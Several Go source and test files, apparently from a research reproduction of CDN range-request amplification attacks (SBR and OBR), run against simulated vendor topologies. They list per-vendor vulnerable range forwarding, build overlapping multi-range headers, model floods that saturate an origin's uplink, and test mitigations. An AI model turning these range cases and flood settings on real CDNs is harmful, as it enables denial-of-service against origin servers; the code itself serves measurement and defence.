