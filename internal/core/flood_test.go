package core

import (
	"strings"
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

func TestSBRFloodConcurrent(t *testing.T) {
	const size = 256 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	const workers, perWorker = 8, 5
	res, err := RunSBRFlood(topo, targetPath, size, workers, perWorker)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != workers*perWorker || res.Failures != 0 || res.Blocked != 0 {
		t.Fatalf("flood result = %+v", res)
	}
	// Every request busted the cache: the origin shipped one full copy
	// per request.
	wantOrigin := int64(workers*perWorker) * size
	if res.Amplification.VictimBytes < wantOrigin {
		t.Errorf("origin traffic = %d, want >= %d", res.Amplification.VictimBytes, wantOrigin)
	}
	if f := res.Amplification.Factor(); f < 100 {
		t.Errorf("aggregate factor = %.1f", f)
	}
	if n := len(topo.Origin.Log()); n != workers*perWorker {
		t.Errorf("origin saw %d requests", n)
	}
}

func TestSBRFloodKeyCDNDoubleRequests(t *testing.T) {
	const size = 64 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.KeyCDN(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	res, err := RunSBRFlood(topo, targetPath, size, 4, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != 4*3*2 {
		t.Errorf("requests = %d, want doubled for KeyCDN", res.Requests)
	}
	if n := len(topo.Origin.Log()); n != 4*3*2 {
		t.Errorf("origin saw %d requests", n)
	}
}

func TestBandwidthAllTable(t *testing.T) {
	if testing.Short() {
		t.Skip("13 calibration runs")
	}
	cfg := DefaultBandwidthConfig()
	cfg.ResourceMB = 10
	tab, err := BandwidthAll(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 13 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	var b strings.Builder
	if err := tab.Render(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Akamai", "Saturating m", "KeyCDN"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q", want)
		}
	}
	// Every vendor's saturating m sits in the paper's 11-14 band (±1 for
	// Azure/CloudFront whose per-request cost differs).
	for _, row := range tab.Rows {
		m := row[3]
		if m == "0" {
			t.Errorf("%s never saturated", row[0])
		}
	}
}
