package core

import (
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

func TestSBROverH2SameAmplification(t *testing.T) {
	const size = 1 << 20
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	if err := topo.EnableH2(); err != nil {
		t.Fatal(err)
	}

	h1, err := RunSBR(topo, targetPath, size, "h1cmp")
	if err != nil {
		t.Fatal(err)
	}
	h2res, err := RunSBROverH2(topo, targetPath, size, "h2cmp")
	if err != nil {
		t.Fatal(err)
	}
	if h2res.Responses[0].StatusCode != 206 || len(h2res.Responses[0].Body) != 1 {
		t.Fatalf("h2 response: status=%d len=%d",
			h2res.Responses[0].StatusCode, len(h2res.Responses[0].Body))
	}
	f1, f2 := h1.Amplification.Factor(), h2res.Amplification.Factor()
	if f1 < 500 || f2 < 500 {
		t.Fatalf("factors too small: h1=%.0f h2=%.0f", f1, f2)
	}
	// §VI-B: the attack carries over, and HPACK makes the attacker side
	// slightly cheaper — h2's factor must be at least h1's.
	if f2 < f1*0.98 {
		t.Errorf("h2 factor %.0f below h1 %.0f", f2, f1)
	}
	// Origin-side traffic is identical either way.
	diff := h2res.Amplification.VictimBytes - h1.Amplification.VictimBytes
	if diff < -1024 || diff > 1024 {
		t.Errorf("origin traffic differs: h1=%d h2=%d",
			h1.Amplification.VictimBytes, h2res.Amplification.VictimBytes)
	}
}

func TestEnableH2Twice(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic(targetPath, 1024, contentType)
	topo, err := NewSBRTopology(vendor.Akamai(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	if err := topo.EnableH2(); err != nil {
		t.Fatal(err)
	}
	if err := topo.EnableH2(); err == nil {
		t.Error("double EnableH2 succeeded")
	}
}
