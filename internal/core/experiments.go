package core

import (
	"context"

	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// TargetPath is the resource every experiment attacks.
const TargetPath = "/target.bin"

// OctetStream is the content type of the synthetic attack resources.
const OctetStream = "application/octet-stream"

// Internal shorthands for this package's own files.
const (
	targetPath  = TargetPath
	contentType = OctetStream
)

// MiB matches the paper's "MB" axis (the Azure and CloudFront
// crossovers are at binary 8/16 MiB and 10 MiB boundaries).
const MiB = int64(1 << 20)

// ---------------------------------------------------------------------
// Table I probe cells — range forwarding behaviours (SBR).

// Table1Probe is one client range shape sent to every vendor.
type Table1Probe struct {
	Label string
	Range string
	Size  int64
}

// Table1Probes returns the Table I range shapes.
func Table1Probes() []Table1Probe {
	return []Table1Probe{
		{"bytes=first-last (first<1024)", "bytes=0-0", 4 * MiB},
		{"bytes=first-last (first>=1024)", "bytes=2048-2050", 4 * MiB},
		{"bytes=-suffix", "bytes=-1", 4 * MiB},
		{"bytes=8388608-8388608 (F>8MB)", "bytes=8388608-8388608", 20 * MiB},
	}
}

// ForwardObservation is what the origin saw for one probe.
type ForwardObservation struct {
	Vendor    string
	Probe     Table1Probe
	Forwarded []string // per back-to-origin request; "None" = stripped
	Policy    vendor.ForwardPolicy
	SBRVuln   bool
}

// ObserveForwarding runs one probe cell: it stands up an isolated
// topology for the profile (reporting into rt's environment; nil rt
// means the process defaults), sends the probe and classifies what the
// origin received against the §III-B policy taxonomy. The profile is
// used as given (callers own it); ctx cancellation is honored at the
// topology-construction and probe boundaries.
func ObserveForwarding(ctx context.Context, rt *Runtime, p *vendor.Profile, probe Table1Probe, originRanges bool) (*ForwardObservation, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	store := NewStoreWith(probe.Size)
	topo, err := NewSBRTopology(p, store, SBROptions{OriginRangeSupport: originRanges, Runtime: rt})
	if err != nil {
		return nil, err
	}
	defer topo.Close()
	if err := PrimeSizeHint(topo, targetPath); err != nil {
		return nil, err
	}
	topo.Origin.ResetLog()
	if err := ctx.Err(); err != nil {
		return nil, err
	}

	req := NewAttackRequest(targetPath + "?cb=probe")
	req.Headers.Add("Range", probe.Range)
	if _, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req); err != nil {
		return nil, err
	}
	// KeyCDN's behaviour needs the identical request twice.
	if p.Name == "keycdn" {
		req2 := NewAttackRequest(targetPath + "?cb=probe")
		req2.Headers.Add("Range", probe.Range)
		if _, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req2); err != nil {
			return nil, err
		}
	}

	obs := &ForwardObservation{Vendor: p.DisplayName, Probe: probe}
	anyStripped, anyExpanded, allUnchanged := false, false, true
	for _, entry := range topo.Origin.Log() {
		switch {
		case !entry.HasRange:
			obs.Forwarded = append(obs.Forwarded, "None")
			anyStripped = true
			allUnchanged = false
		case entry.RangeHeader == probe.Range:
			obs.Forwarded = append(obs.Forwarded, "Unchanged")
		default:
			obs.Forwarded = append(obs.Forwarded, entry.RangeHeader)
			anyExpanded = true
			allUnchanged = false
		}
	}
	switch {
	case allUnchanged:
		obs.Policy = vendor.Laziness
	case anyExpanded:
		obs.Policy = vendor.Expansion
	case anyStripped:
		obs.Policy = vendor.Deletion
	}
	obs.SBRVuln = !allUnchanged
	return obs, nil
}

// JoinForwarded renders a per-request forwarding log as one cell.
func JoinForwarded(fs []string) string {
	if len(fs) == 0 {
		return "(no back-to-origin request)"
	}
	out := fs[0]
	for _, f := range fs[1:] {
		out += " & " + f
	}
	return out
}

// NewStoreWith returns a store holding one synthetic target resource
// of the given size at TargetPath — the arrangement every probe cell
// attacks.
func NewStoreWith(size int64) *resource.Store {
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	return store
}
