package core

import (
	"fmt"
	"strconv"

	"repro/internal/bwsim"
	"repro/internal/measure"
	"repro/internal/origin"
	"repro/internal/report"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// targetPath is the resource every experiment attacks.
const targetPath = "/target.bin"

// contentType used for synthetic resources.
const contentType = "application/octet-stream"

// MiB matches the paper's "MB" axis (the Azure and CloudFront
// crossovers are at binary 8/16 MiB and 10 MiB boundaries).
const MiB = int64(1 << 20)

// ---------------------------------------------------------------------
// Experiment E1a — Table I: range forwarding behaviours (SBR).

// table1Probe is one client range shape sent to every vendor.
type table1Probe struct {
	Label string
	Range string
	Size  int64
}

func table1Probes() []table1Probe {
	return []table1Probe{
		{"bytes=first-last (first<1024)", "bytes=0-0", 4 * MiB},
		{"bytes=first-last (first>=1024)", "bytes=2048-2050", 4 * MiB},
		{"bytes=-suffix", "bytes=-1", 4 * MiB},
		{"bytes=8388608-8388608 (F>8MB)", "bytes=8388608-8388608", 20 * MiB},
	}
}

// ForwardObservation is what the origin saw for one probe.
type ForwardObservation struct {
	Vendor    string
	Probe     table1Probe
	Forwarded []string // per back-to-origin request; "None" = stripped
	Policy    vendor.ForwardPolicy
	SBRVuln   bool
}

// Table1 probes every vendor with the Table I range shapes and reports
// the observed forwarding behaviour.
func Table1() (*report.Table, []ForwardObservation, error) {
	var observations []ForwardObservation
	for _, p := range vendor.All() {
		for _, probe := range table1Probes() {
			obs, err := observeForwarding(p.Clone(), probe, true)
			if err != nil {
				return nil, nil, fmt.Errorf("%s/%s: %w", p.Name, probe.Label, err)
			}
			observations = append(observations, *obs)
		}
	}
	tab := &report.Table{
		Title:   "Table I — Range forwarding behaviours (SBR)",
		Columns: []string{"CDN", "Client Range", "Forwarded Range(s)", "Policy", "SBR-vuln"},
	}
	for _, o := range observations {
		tab.AddRow(o.Vendor, o.Probe.Range, joinForwarded(o.Forwarded), o.Policy.String(), yesNo(o.SBRVuln))
	}
	return tab, observations, nil
}

func observeForwarding(p *vendor.Profile, probe table1Probe, originRanges bool) (*ForwardObservation, error) {
	store := resource.NewStore()
	store.AddSynthetic(targetPath, probe.Size, contentType)
	topo, err := NewSBRTopology(p, store, SBROptions{OriginRangeSupport: originRanges})
	if err != nil {
		return nil, err
	}
	defer topo.Close()
	if err := PrimeSizeHint(topo, targetPath); err != nil {
		return nil, err
	}
	topo.Origin.ResetLog()

	req := NewAttackRequest(targetPath + "?cb=probe")
	req.Headers.Add("Range", probe.Range)
	if _, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req); err != nil {
		return nil, err
	}
	// KeyCDN's behaviour needs the identical request twice.
	if p.Name == "keycdn" {
		req2 := NewAttackRequest(targetPath + "?cb=probe")
		req2.Headers.Add("Range", probe.Range)
		if _, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req2); err != nil {
			return nil, err
		}
	}

	obs := &ForwardObservation{Vendor: p.DisplayName, Probe: probe}
	anyStripped, anyExpanded, allUnchanged := false, false, true
	for _, entry := range topo.Origin.Log() {
		switch {
		case !entry.HasRange:
			obs.Forwarded = append(obs.Forwarded, "None")
			anyStripped = true
			allUnchanged = false
		case entry.RangeHeader == probe.Range:
			obs.Forwarded = append(obs.Forwarded, "Unchanged")
		default:
			obs.Forwarded = append(obs.Forwarded, entry.RangeHeader)
			anyExpanded = true
			allUnchanged = false
		}
	}
	switch {
	case allUnchanged:
		obs.Policy = vendor.Laziness
	case anyExpanded:
		obs.Policy = vendor.Expansion
	case anyStripped:
		obs.Policy = vendor.Deletion
	}
	obs.SBRVuln = !allUnchanged
	return obs, nil
}

// ---------------------------------------------------------------------
// Experiment E1b — Table II: multi-range forwarding (OBR FCDN side).

// Table2 probes each vendor with an overlapping multi-range set and
// reports which forward it unchanged (the FCDN vulnerability).
func Table2() (*report.Table, map[string]bool, error) {
	vulnerable := make(map[string]bool, 13)
	tab := &report.Table{
		Title:   "Table II — Multi-range forwarding (OBR FCDN side)",
		Columns: []string{"CDN", "Client Range", "Forwarded", "FCDN-vuln"},
	}
	for _, p := range vendor.All() {
		p = p.Clone()
		if p.Name == "cloudflare" {
			p.Options.CloudflareBypass = true // Table II's conditional position
		}
		rangeCase := BuildOverlappingRange(OBRFirstToken(p.Name), 4)
		probe := table1Probe{Label: "overlap", Range: rangeCase, Size: 1024}
		obs, err := observeForwarding(p, probe, false)
		if err != nil {
			return nil, nil, fmt.Errorf("%s: %w", p.Name, err)
		}
		isVuln := obs.Policy == vendor.Laziness
		vulnerable[p.Name] = isVuln
		tab.AddRow(obs.Vendor, rangeCase, joinForwarded(obs.Forwarded), yesNo(isVuln))
	}
	return tab, vulnerable, nil
}

// ---------------------------------------------------------------------
// Experiment E1c — Table III: multi-range replying (OBR BCDN side).

// Table3 sends an overlapping multi-range set directly to each vendor
// edge (range-disabled origin behind it) and reports which build
// overlapping n-part responses.
func Table3() (*report.Table, map[string]bool, error) {
	const n = 8
	vulnerable := make(map[string]bool, 13)
	tab := &report.Table{
		Title:   "Table III — Multi-range replying (OBR BCDN side)",
		Columns: []string{"CDN", "Ranges Sent", "Parts Returned", "BCDN-vuln"},
	}
	for _, p := range vendor.All() {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 1024, contentType)
		topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: false})
		if err != nil {
			return nil, nil, err
		}
		req := NewAttackRequest(targetPath)
		req.Headers.Add("Range", BuildOverlappingRange("0-", n))
		resp, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req)
		topo.Close()
		if err != nil {
			return nil, nil, fmt.Errorf("%s: %w", p.Name, err)
		}
		parts := countParts(resp)
		isVuln := parts >= n
		vulnerable[p.Name] = isVuln
		tab.AddRow(p.DisplayName, strconv.Itoa(n), strconv.Itoa(parts), yesNo(isVuln))
	}
	return tab, vulnerable, nil
}

// ---------------------------------------------------------------------
// Experiment E2 — Table IV and Fig 6: the SBR amplification sweep.

// SBRSweepResult holds the full sweep: per vendor and size, the
// amplification factor and the raw per-segment traffic.
type SBRSweepResult struct {
	Vendors     []string // display names, paper order
	SizesMB     []int
	Factor      map[string][]float64
	ClientBytes map[string][]int64 // response traffic CDN -> client (Fig 6b)
	OriginBytes map[string][]int64 // response traffic origin -> CDN (Fig 6c)
	Cases       map[string]string  // exploited range case per vendor
}

// SBRSweep runs the Table IV / Fig 6 experiment for the given resource
// sizes (in MB; the paper uses 1..25).
func SBRSweep(sizesMB []int) (*SBRSweepResult, error) {
	res := &SBRSweepResult{
		SizesMB:     sizesMB,
		Factor:      make(map[string][]float64),
		ClientBytes: make(map[string][]int64),
		OriginBytes: make(map[string][]int64),
		Cases:       make(map[string]string),
	}
	for _, sizeMB := range sizesMB {
		size := int64(sizeMB) * MiB
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		for _, p := range vendor.All() {
			topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
			if err != nil {
				return nil, err
			}
			if err := PrimeSizeHint(topo, targetPath); err != nil {
				topo.Close()
				return nil, err
			}
			topo.ClientSeg.Reset()
			topo.OriginSeg.Reset()
			sbr, err := RunSBR(topo, targetPath, size, CacheBuster(sizeMB))
			topo.Close()
			if err != nil {
				return nil, fmt.Errorf("%s @ %dMB: %w", p.Name, sizeMB, err)
			}
			name := p.DisplayName
			if len(res.Factor[name]) == 0 {
				res.Vendors = append(res.Vendors, name)
			}
			res.Factor[name] = append(res.Factor[name], sbr.Amplification.Factor())
			res.ClientBytes[name] = append(res.ClientBytes[name], sbr.Amplification.AttackerBytes)
			res.OriginBytes[name] = append(res.OriginBytes[name], sbr.Amplification.VictimBytes)
			res.Cases[name] = sbr.Case.RangeHeader
		}
	}
	return res, nil
}

// Table4 renders the sweep at the paper's three reference sizes (or
// whatever subset was swept).
func (r *SBRSweepResult) Table4() *report.Table {
	tab := &report.Table{
		Title:   "Table IV — SBR amplification factor by resource size",
		Columns: []string{"CDN", "Exploited Range Case"},
	}
	for _, mb := range r.SizesMB {
		tab.Columns = append(tab.Columns, fmt.Sprintf("%dMB", mb))
	}
	for _, v := range r.Vendors {
		row := []string{v, r.Cases[v]}
		for i := range r.SizesMB {
			row = append(row, strconv.Itoa(int(r.Factor[v][i]+0.5)))
		}
		tab.AddRow(row...)
	}
	return tab
}

// Fig6 renders the three panels of Fig 6 from the sweep.
func (r *SBRSweepResult) Fig6() (factors, clientTraffic, originTraffic *report.Figure) {
	x := make([]float64, len(r.SizesMB))
	for i, mb := range r.SizesMB {
		x[i] = float64(mb)
	}
	mk := func(title, ylabel string, y func(string) []float64) *report.Figure {
		f := &report.Figure{Title: title, XLabel: "resource size (MB)", YLabel: ylabel}
		for _, v := range r.Vendors {
			f.Series = append(f.Series, report.Series{Name: v, X: x, Y: y(v)})
		}
		return f
	}
	factors = mk("Fig 6a — amplification factors", "factor", func(v string) []float64 {
		return r.Factor[v]
	})
	clientTraffic = mk("Fig 6b — response traffic CDN->client", "bytes", func(v string) []float64 {
		return toFloats(r.ClientBytes[v])
	})
	originTraffic = mk("Fig 6c — response traffic origin->CDN", "bytes", func(v string) []float64 {
		return toFloats(r.OriginBytes[v])
	})
	return factors, clientTraffic, originTraffic
}

// ---------------------------------------------------------------------
// Experiment E3 — Table V: the OBR max amplification over 11 cascades.

// OBRCombination is one FCDN/BCDN pair's measurement.
type OBRCombination struct {
	FCDN, BCDN string
	Case       OBRCase
	Result     *OBRResult
}

// obrFCDNs and obrBCDNs are the Table V row/column sets.
func obrFCDNs() []string { return []string{"cdn77", "cdnsun", "cloudflare", "stackpath"} }
func obrBCDNs() []string { return []string{"akamai", "azure", "stackpath"} }

// Table5 runs the OBR attack over the 11 cascaded combinations (a CDN
// is never cascaded with itself) with a 1 KB target resource.
func Table5() (*report.Table, []OBRCombination, error) {
	var combos []OBRCombination
	tab := &report.Table{
		Title: "Table V — OBR max amplification (1KB resource, max n)",
		Columns: []string{"FCDN", "BCDN", "Range Case", "Max n",
			"Server->BCDN", "BCDN->FCDN", "Factor"},
	}
	for _, fcdnName := range obrFCDNs() {
		for _, bcdnName := range obrBCDNs() {
			if fcdnName == bcdnName {
				continue
			}
			combo, err := runOBRCombo(fcdnName, bcdnName)
			if err != nil {
				return nil, nil, fmt.Errorf("%s->%s: %w", fcdnName, bcdnName, err)
			}
			combos = append(combos, *combo)
			tab.AddRow(combo.FCDN, combo.BCDN,
				"bytes="+combo.Case.FirstToken+",0-,...,0-",
				strconv.Itoa(combo.Case.N),
				measure.FormatBytes(combo.Result.Amplification.AttackerBytes),
				measure.FormatBytes(combo.Result.Amplification.VictimBytes),
				fmt.Sprintf("%.2f", combo.Result.Amplification.Factor()))
		}
	}
	return tab, combos, nil
}

func runOBRCombo(fcdnName, bcdnName string) (*OBRCombination, error) {
	fcdnProfile, ok := vendor.ByName(fcdnName)
	if !ok {
		return nil, fmt.Errorf("unknown fcdn %q", fcdnName)
	}
	bcdnProfile, ok := vendor.ByName(bcdnName)
	if !ok {
		return nil, fmt.Errorf("unknown bcdn %q", bcdnName)
	}
	store := resource.NewStore()
	store.AddSynthetic(targetPath, 1024, contentType)
	topo, err := NewOBRTopology(fcdnProfile, bcdnProfile, store)
	if err != nil {
		return nil, err
	}
	defer topo.Close()
	result, err := RunOBR(topo, targetPath, 0)
	if err != nil {
		return nil, err
	}
	return &OBRCombination{
		FCDN: fcdnProfile.DisplayName, BCDN: bcdnProfile.DisplayName,
		Case: result.Case, Result: result,
	}, nil
}

// ---------------------------------------------------------------------
// Experiment E4 — Fig 7: bandwidth practicability.

// BandwidthConfig parameterizes the Fig 7 run.
type BandwidthConfig struct {
	Ms          []int // the m values (paper: 1..15)
	ResourceMB  int   // paper: 10
	DurationSec int   // paper: 30
	LinkMbps    int   // paper: 1000
	VendorName  string
}

// DefaultBandwidthConfig returns the paper's Fig 7 parameters.
func DefaultBandwidthConfig() BandwidthConfig {
	ms := make([]int, 15)
	for i := range ms {
		ms[i] = i + 1
	}
	return BandwidthConfig{Ms: ms, ResourceMB: 10, DurationSec: 30, LinkMbps: 1000, VendorName: "cloudflare"}
}

// Bandwidth calibrates per-request byte costs with one real SBR run,
// then drives the fluid simulator for every m, returning Fig 7a
// (client incoming) and Fig 7b (origin outgoing).
func Bandwidth(cfg BandwidthConfig) (fig7a, fig7b *report.Figure, err error) {
	p, ok := vendor.ByName(cfg.VendorName)
	if !ok {
		return nil, nil, fmt.Errorf("unknown vendor %q", cfg.VendorName)
	}
	size := int64(cfg.ResourceMB) * MiB
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		return nil, nil, err
	}
	sbr, err := RunSBR(topo, targetPath, size, "calibrate")
	topo.Close()
	if err != nil {
		return nil, nil, err
	}

	fig7a = &report.Figure{Title: "Fig 7a — incoming bandwidth of the client",
		XLabel: "time (s)", YLabel: "Kbps"}
	fig7b = &report.Figure{Title: "Fig 7b — outgoing bandwidth of the origin server",
		XLabel: "time (s)", YLabel: "Mbps"}
	for _, m := range cfg.Ms {
		samples := bwsim.Run(bwsim.Config{
			LinkBitsPerSec:        float64(cfg.LinkMbps) * 1e6,
			PerRequestOriginBytes: sbr.Amplification.VictimBytes,
			PerRequestClientBytes: sbr.Amplification.AttackerBytes,
			RequestsPerSecond:     m,
			DurationSec:           cfg.DurationSec,
		})
		name := "m=" + strconv.Itoa(m)
		var xs, client, originOut []float64
		for _, s := range samples {
			if s.Second >= cfg.DurationSec {
				break
			}
			xs = append(xs, float64(s.Second))
			client = append(client, s.ClientInKbps)
			originOut = append(originOut, s.OriginOutMbps)
		}
		fig7a.Series = append(fig7a.Series, report.Series{Name: name, X: xs, Y: client})
		fig7b.Series = append(fig7b.Series, report.Series{Name: name, X: xs, Y: originOut})
	}
	return fig7a, fig7b, nil
}

// ---------------------------------------------------------------------
// Ablation A1 — §VI-C mitigations.

// Mitigations measures the SBR attack against Cloudflare and the OBR
// attack against Cloudflare->Akamai, unmitigated and with each §VI-C
// countermeasure, and reports the factor collapse.
func Mitigations() (*report.Table, error) {
	tab := &report.Table{
		Title:   "Mitigations (§VI-C) — amplification with and without each fix",
		Columns: []string{"Attack", "Configuration", "Factor"},
	}
	const sizeMB = 10
	size := int64(sizeMB) * MiB

	sbrConfigs := []struct {
		label   string
		profile *vendor.Profile
	}{
		{"vulnerable (Deletion)", vendor.Cloudflare()},
		{"Laziness policy", vendor.MitigateLaziness(vendor.Cloudflare())},
		{"bounded Expansion (+8KB)", vendor.MitigateBoundedExpansion(vendor.Cloudflare(), 8<<10)},
		{"1MB slicing", vendor.MitigateSlicing(vendor.Cloudflare(), 1<<20)},
	}
	for _, c := range sbrConfigs {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		topo, err := NewSBRTopology(c.profile, store, SBROptions{OriginRangeSupport: true})
		if err != nil {
			return nil, err
		}
		sbr, err := RunSBR(topo, targetPath, size, "mitigation")
		topo.Close()
		if err != nil {
			return nil, fmt.Errorf("sbr %s: %w", c.label, err)
		}
		tab.AddRow("SBR (Cloudflare)", c.label, fmt.Sprintf("%.1f", sbr.Amplification.Factor()))
	}

	obrConfigs := []struct {
		label string
		bcdn  *vendor.Profile
	}{
		{"vulnerable (serve-all)", vendor.Akamai()},
		{"reject overlapping ranges", vendor.MitigateRejectOverlap(vendor.Akamai())},
		{"coalesce overlapping ranges", vendor.MitigateCoalesce(vendor.Akamai())},
	}
	for _, c := range obrConfigs {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 1024, contentType)
		topo, err := NewOBRTopology(vendor.Cloudflare(), c.bcdn, store)
		if err != nil {
			return nil, err
		}
		obr, err := RunOBR(topo, targetPath, 256)
		topo.Close()
		if err != nil {
			return nil, fmt.Errorf("obr %s: %w", c.label, err)
		}
		tab.AddRow("OBR (Cloudflare->Akamai, n=256)", c.label,
			fmt.Sprintf("%.1f", obr.Amplification.Factor()))
	}
	return tab, nil
}

// ---------------------------------------------------------------------

func joinForwarded(fs []string) string {
	if len(fs) == 0 {
		return "(no back-to-origin request)"
	}
	out := fs[0]
	for _, f := range fs[1:] {
		out += " & " + f
	}
	return out
}

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

func toFloats(xs []int64) []float64 {
	out := make([]float64, len(xs))
	for i, x := range xs {
		out[i] = float64(x)
	}
	return out
}

// BandwidthAll runs the §V-D observation that all 13 CDNs behave like
// the Cloudflare case: for each vendor it calibrates the per-request
// origin cost with one real SBR run, then finds the smallest m (attack
// requests per second) that saturates the origin's 1000 Mbps uplink.
func BandwidthAll(cfg BandwidthConfig) (*report.Table, error) {
	tab := &report.Table{
		Title: "Fig 7 across all 13 CDNs — per-request origin cost and saturating m",
		Columns: []string{"CDN", "Origin Bytes/Request", "Client Bytes/Request",
			"Saturating m", "Steady Mbps @ m=15"},
	}
	size := int64(cfg.ResourceMB) * MiB
	for _, p := range vendor.All() {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
		if err != nil {
			return nil, err
		}
		if err := PrimeSizeHint(topo, targetPath); err != nil {
			topo.Close()
			return nil, err
		}
		topo.ClientSeg.Reset()
		topo.OriginSeg.Reset()
		sbr, err := RunSBR(topo, targetPath, size, "calibrate")
		topo.Close()
		if err != nil {
			return nil, fmt.Errorf("%s: %w", p.Name, err)
		}

		bwCfg := bwsim.Config{
			LinkBitsPerSec:        float64(cfg.LinkMbps) * 1e6,
			PerRequestOriginBytes: sbr.Amplification.VictimBytes,
			PerRequestClientBytes: sbr.Amplification.AttackerBytes,
			DurationSec:           cfg.DurationSec,
		}
		saturatingM := 0
		for m := 1; m <= 30; m++ {
			bwCfg.RequestsPerSecond = m
			if bwsim.Saturated(bwsim.Run(bwCfg), bwCfg, 0.97) {
				saturatingM = m
				break
			}
		}
		bwCfg.RequestsPerSecond = 15
		steady15 := bwsim.SteadyOriginMbps(bwsim.Run(bwCfg), cfg.DurationSec)

		tab.AddRow(p.DisplayName,
			measure.FormatBytes(sbr.Amplification.VictimBytes),
			measure.FormatBytes(sbr.Amplification.AttackerBytes),
			strconv.Itoa(saturatingM),
			fmt.Sprintf("%.0f", steady15))
	}
	return tab, nil
}
