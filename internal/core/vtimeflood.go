package core

import (
	"context"
	"fmt"
	"math/rand"
	"time"

	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/trace"
	"repro/internal/vtime"
)

// Engine selects how a flood executes.
type Engine string

const (
	// EnginePipe is the default goroutine-per-worker execution over the
	// netsim bounded pipes: every request really crosses the stack.
	EnginePipe Engine = "pipe"
	// EngineVTime is calibrated discrete-event replay: a handful of
	// representative workers run for real per request-shape class, and
	// the rest of the flood is event-driven state on a virtual clock
	// replaying the calibrated per-segment footprints. Byte totals are
	// bit-identical to the pipe engine wherever per-request footprints
	// are stationary (see DESIGN.md §11 for the exact contract).
	EngineVTime Engine = "vtime"
)

// VTimeOptions tune the vtime engine. The zero value is a fully
// deterministic latency-free uncapped run — pure byte accounting at
// maximum event throughput.
type VTimeOptions struct {
	// Seed drives the worker-arrival jitter (and nothing else: the
	// substrate itself has no randomness). Two runs with the same seed
	// produce identical results regardless of GOMAXPROCS.
	Seed int64

	// Ramp is the virtual window worker arrivals spread over.
	// Zero means 1s.
	Ramp time.Duration

	// Sched lets the caller own the scheduler, typically to inject its
	// Now into the run's core.Runtime so metrics exemplars, obs samples
	// and trace timestamps carry coherent virtual time. Nil means a
	// private scheduler.
	Sched *vtime.Scheduler

	// Client and Upstream model the attacker->edge and edge->origin
	// hops (latency, shared bandwidth, loss). Zero values are
	// instantaneous uncapped hops.
	Client   vtime.LinkParams
	Upstream vtime.LinkParams
}

// calPerShape is how many workers of each request-shape class run for
// real before the rest replay. Two, not one: the first real worker of
// a class may absorb one-time topology transients (size-hint priming,
// first-touch cache metadata), so the second worker's footprint is the
// stationary one the replay uses — and the flood's totals still match
// the pipe engine exactly, because the pipe engine's workers 3..N
// leave that same stationary footprint.
const calPerShape = 2

// shapeOf maps a worker index to its request-shape class. The only
// thing that distinguishes two workers' wire footprint is the length
// of their cache-busting targets ("?cb=w17-3"), which depends solely on
// the worker index's decimal digit count (the per-request index runs
// the same sequence in every worker).
func shapeOf(w int) int {
	d := 1
	for w >= 10 {
		w /= 10
		d++
	}
	return d
}

// floodCounts aggregates a flood's bookkeeping. The vtime engine
// mutates it from the single event-loop goroutine, so no mutex.
type floodCounts struct {
	requests, failures, blocked int
	dials                       int64
	firstErr                    error
}

// merge folds a replay engine's event-loop tallies into the
// calibration-phase counts.
func (c *floodCounts) merge(rc vtime.Counts) {
	c.requests += int(rc.Requests)
	c.failures += int(rc.Failures)
	c.blocked += int(rc.Blocked)
	c.dials += rc.Dials
}

func snapAll(segs []*netsim.Segment) []netsim.Snapshot {
	out := make([]netsim.Snapshot, len(segs))
	for i, s := range segs {
		out[i] = s.Snapshot()
	}
	return out
}

func deltasSince(segs []*netsim.Segment, before []netsim.Snapshot) []vtime.Delta {
	out := make([]vtime.Delta, len(segs))
	for i, s := range segs {
		out[i] = vtime.SnapDelta(s.Snapshot().Sub(before[i]))
	}
	return out
}

// note records one real request's outcome into the counts and returns
// its classification for the template.
